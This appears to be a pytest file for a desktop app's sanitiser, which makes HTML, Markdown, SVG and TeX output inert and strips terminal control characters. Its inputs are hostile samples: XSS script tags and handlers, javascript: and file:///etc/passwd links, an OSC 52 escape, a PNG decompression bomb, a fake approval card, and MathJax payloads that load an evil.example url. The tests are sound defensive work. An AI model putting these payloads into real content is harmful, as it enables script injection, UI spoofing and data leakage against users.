"""HTML and Markdown from the kernel or the model, made inert; text made safe for a terminal."""

from codeact_desktop.untrusted_markup import clean_html, neutral_markdown
from codeact_desktop.visible_text import for_terminal, visible_name


def test_clean_html_keeps_tables_and_drops_what_runs_or_loads():
    html = ('<table class="dataframe"><tr><th>a</th><td style="color:red;background:url(http://x/y)">1</td></tr>'
            '</table><script>alert(1)</script><img src="http://x/p.png" onerror="x()">'
            '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="><a href="javascript:alert(1)">j</a><a href="https://ok">ok</a>'
            '<iframe src="file:///etc/passwd"></iframe><style>*{}</style><svg onload="x()"></svg>')
    cleaned = clean_html(html)
    assert "<table>" in cleaned and "<th>a</th>" in cleaned and 'style="color:red"' in cleaned
    for gone in ("script", "alert", "onerror", "http://x", "javascript", "iframe", "passwd", "<style", "svg"):
        assert gone not in cleaned, gone
    assert 'src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="' in cleaned and 'href="https://ok"' in cleaned


def test_neutral_markdown_escapes_raw_html_and_odd_links_but_not_code():
    text = ("Hi <script>alert(1)</script> and `x <b> y`\n```html\n<b>kept</b>\n```\n"
            "[a](javascript:alert(1)) [b](https://x) [c](file:///etc/passwd) a < b <!-- c -->\n"
            "[r]: javascript:alert(2)\n")
    out = neutral_markdown(text)
    assert "&lt;script>" in out and "`x <b> y`" in out and "<b>kept</b>" in out
    assert "[a](#blocked-link:javascript:" in out and "[b](https://x)" in out and "[c](#blocked-link:file:" in out
    assert "[r]: #blocked-link:javascript:" in out
    assert "a < b" in out and "&lt;!--" in out
    assert neutral_markdown("see ![pixel](http://x/p.png)") == "see \\![pixel](http://x/p.png)"


def test_only_what_every_reader_takes_for_code_is_left_alone():
    # An escaped backtick starts no code span; a span does not cross lines; a fence in a
    # list item, an unclosed fence and a fence with a backtick in its info are prose to
    # some reader, so their HTML is escaped too.
    for text in ("\\`<img src=x>`", "# `heading\n<script>`", "- item\n  ```\n<script>x</script>\n```",
                 "```\n<script>never closed", "```a`b\n<script>x</script>\n```"):
        assert "<script" not in neutral_markdown(text) and "<img" not in neutral_markdown(text), text


def test_a_fence_inside_a_fence_does_not_end_it_early():
    text = "````\n```\n<script>x</script>\n```\n````\n<b>after</b>"
    assert neutral_markdown(text).endswith("````\n&lt;b>after&lt;/b>")


def test_the_terminal_sees_no_control_characters():
    shown = for_terminal("a\x1b]52;c;aGk=\x07b\r\nc\rd\u202ee\x9bf\tg\n")
    assert shown == "a\\x1b]52;c;aGk=\\x07b\nc\\rd\\u202ee\\x9bf\tg\n"
    assert visible_name("a\nb\tc\x1b.csv") == "a\\nb\\tc\\x1b.csv"


def test_inline_images_are_kept_only_while_their_headers_claim_few_enough_pixels():
    """An HTML output's ``<img src="data:...">`` and an SVG's ``<image>`` are decoded by Qt at
    the size their header claims: four 182 KB PNGs of 8,000 x 8,000 took 4.3 s and 500 MB of
    the window's thread. Each is kept within 25 million pixels, an output's within 64 million."""
    import base64
    import io
    import struct
    import zlib

    from PIL import Image

    from codeact_desktop.image_size import image_size
    from codeact_desktop.untrusted_markup import clean_html, clean_svg

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    def png(width: int, height: int) -> bytes:
        return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
                + chunk(b"IDAT", zlib.compress(bytes(width * 3 + 1) * 4)) + chunk(b"IEND", b""))

    def saved(fmt: str, **options) -> bytes:
        out = io.BytesIO()
        Image.new("RGB", (301, 203)).save(out, fmt, **options)
        return out.getvalue()

    for fmt, options in (("GIF", {}), ("WEBP", {}), ("WEBP", {"lossless": True}), ("JPEG", {"exif": Image.Exif()})):
        assert image_size(saved(fmt, **options)) == (301, 203), (fmt, options)

    def img(data: bytes, kind: str = "png") -> str:
        return f'<img src="data:image/{kind};base64,{base64.b64encode(data).decode()}">'

    small, bomb, big = img(png(640, 480)), img(png(8000, 8000)), img(png(4000, 5000))
    assert clean_html(small).count("<img src=") == 1
    assert "<img src=" not in clean_html(bomb) and "<img src=" not in clean_html(img(b"GIF89a\xff\xff\xff\xff", "gif"))
    assert "<img src=" not in clean_html(img(b"\x00" * 40))  # no header it can read: not decoded
    assert clean_html(big * 4).count("<img src=") == 4  # no budget: an exported page
    assert clean_html(big * 4, pixels=64_000_000).count("<img src=") == 3
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><image href="data:image/png;base64,'
           + base64.b64encode(png(8000, 8000)).decode() + '"/></svg>')
    assert "data:image/png" not in clean_svg(svg)
    assert "data:image/png" in clean_svg(svg.replace(base64.b64encode(png(8000, 8000)).decode(),
                                                     base64.b64encode(png(64, 64)).decode()))


def test_a_word_is_measured_as_qt_breaks_it_across_inline_tags_not_cells():
    """Qt breaks a long word in square time; a table written without spaces is many short
    words (cells end them), a word split by <b> is still one."""
    from codeact_desktop.untrusted_markup import MAX_LAYOUT_COST, html_layout_cost

    assert html_layout_cost("<table>" + "<tr><td>1</td><td>2</td></tr>" * 2_000 + "</table>") < 1 << 40
    assert html_layout_cost("<p>" + "x" * 6_000 + "<b>" + "x" * 6_000 + "</b></p>") > MAX_LAYOUT_COST


FAKE_CARD = ('<div style="border:1px solid #d0d7de;background-color:#f6f8fa;padding:8px;margin-top:8px">'
             '<p style="color:#57606a">Python · waiting for approval</p><pre>print("harmless")</pre>'
             '<span style="border:1px solid #888;padding:4px 14px;background-color:#e8e8e8">Run</span></div>')


def test_the_windows_html_keeps_text_styles_but_no_boxes_that_could_fake_the_apps_card():
    kept = clean_html(FAKE_CARD)  # exports and the clipboard keep the author's boxes
    assert "background-color:#f6f8fa" in kept.replace(" ", "")
    shown = clean_html(FAKE_CARD, boxes=False).replace(" ", "")
    assert "color:#57606a" in shown and "Run" in shown
    for drawn in ("border", "background", "padding", "margin"):
        assert drawn not in shown, shown


def test_tex_that_a_notebooks_mathjax_would_follow_or_load_is_made_inert():
    # A reply or a text/markdown output in the .ipynb export: Jupyter's MathJax turns
    # \href into a link (javascript: too) and \style into CSS that can load a url().
    from codeact_desktop.untrusted_markup import neutral_markdown

    text = (r"see $\href{javascript:alert(1)}{x}$, $\style{background-image:url(https://evil.example/?d=S)}{y}$, "
            r"$\require{html}$ and $\frac{a}{b}$; code `\href{k}` stays")
    inert = neutral_markdown(text)
    for command in ("href{javascript", "style{", "require{"):
        assert "\\" + command not in inert and "\u2216" + command in inert, inert
    assert r"$\frac{a}{b}$" in inert and r"`\href{k}`" in inert
    # spelled with entities, which the rendered Markdown turns back into characters; and the
    # commands that set attributes or a background of their own
    import markdown

    for sly in (r"&#36;\hr&#101;f{https://evil.example/x}{click}&#36;", r"$&bsol;href{https://evil.example/}{x}$",
                r"$\mmlToken{mi}[href='https://evil.example/']{x}$", r"$\bbox[background-image:url(https://e/)]{x}$"):
        rendered = markdown.markdown(neutral_markdown(sly))
        for command in ("href", "mmlToken", "bbox"):
            assert "\\" + command not in rendered, rendered
